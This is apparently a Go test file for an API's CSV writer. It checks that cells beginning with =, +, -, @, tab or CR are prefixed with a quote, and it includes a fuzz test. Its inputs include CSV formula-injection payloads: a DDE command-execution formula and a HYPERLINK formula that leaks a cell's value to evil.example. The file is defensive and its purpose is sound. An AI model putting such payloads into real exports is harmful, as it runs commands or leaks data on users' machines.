package api

import (
	"bytes"
	"encoding/csv"
	"math"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestCSVFormulaInjection: text cells starting with = + - @ tab or CR get a leading
// single quote wherever they are (names, nested records, list items, the header);
// numbers, booleans and times are written as they are, so a negative number stays a
// number.
func TestCSVFormulaInjection(t *testing.T) {
	names := []string{`=cmd|' /C calc'!A0`, `@SUM(1+1)`, `+HYPERLINK("http://evil.example/?x="&A1,"click")`, `-2+3`, "\tX", "\rX",
		"plain", "", "南昌市", "1-2", "a=b"}
	var rows []record
	for _, n := range names {
		rows = append(rows, record{{"name", n}, {"n", num(-2)}, {"i", -3}, {"b", false}, {"t", time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)},
			{"nested", record{{"reason", n}, {"margin", num(-0.25)}}}, {"list", []string{n, "=x", "y"}}, {"null", num(math.NaN())}})
	}
	var out bytes.Buffer
	if err := writeCSV(&out, slices.Values(rows), nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"name", "n", "i", "b", "t", "nested.reason", "nested.margin", "list", "null"}; !reflect.DeepEqual(recs[0], want) {
		t.Fatalf("header %q", recs[0])
	}
	want := []string{`'=cmd|' /C calc'!A0`, `'@SUM(1+1)`, `'+HYPERLINK("http://evil.example/?x="&A1,"click")`, `'-2+3`, "'\tX", "'\rX",
		"plain", "", "南昌市", "1-2", "a=b"}
	for i, w := range want {
		got := recs[i+1]
		wantRow := []string{w, "-2", "-3", "false", "2024-05-01T00:00:00Z", w, "-0.25", w + ";'=x;y", ""}
		if !reflect.DeepEqual(got, wantRow) {
			t.Errorf("row %d:\n%q\nwant\n%q", i, got, wantRow)
		}
	}
	// JSON carries the names unchanged.
	b, _ := rows[0].MarshalJSON()
	if !strings.HasPrefix(string(b), `{"name":"=cmd|' /C calc'!A0","n":-2,`) {
		t.Errorf("json %s", b)
	}
}

// FuzzWriteCSV writes a row of fuzzed text and numbers and reads it back: the CSV stays
// well-formed, a text cell comes back as written or with one leading quote exactly
// when it starts with a formula character, and numbers are never prefixed.
func FuzzWriteCSV(f *testing.F) {
	for _, s := range []string{"", "=1+1", "@x", "+1", "-1", "\t", "\r\n", "a,b", `"q"`, "'", "\xff", "南昌"} {
		f.Add(s, s, 1.5)
	}
	f.Add("a", "-2+3", -2.0)
	f.Add("x", "y", math.Inf(-1))
	f.Fuzz(func(t *testing.T, a, b string, x float64) {
		var out bytes.Buffer
		r := record{{"a", a}, {"x", num(x)}, {"l", []string{a, b}}, {"n", record{{"b", b}}}}
		if err := writeCSV(&out, slices.Values([]record{r}), nil); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", out.String(), err)
		}
		if len(recs) != 2 || len(recs[1]) != 4 {
			t.Fatalf("%q: %q", out.String(), recs)
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		norm := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
		check := func(got, in string) {
			want := in
			if in != "" && strings.ContainsRune("=+-@\t\r", rune(in[0])) {
				want = "'" + in
			}
			if got != norm(want) {
				t.Fatalf("cell %q read back as %q, want %q", in, got, norm(want))
			}
		}
		check(recs[1][0], a)
		check(recs[1][3], b)
		if s, _ := num(x).text(); recs[1][1] != s {
			t.Fatalf("number %v written as %q, want %q", x, recs[1][1], s)
		}
	})
}
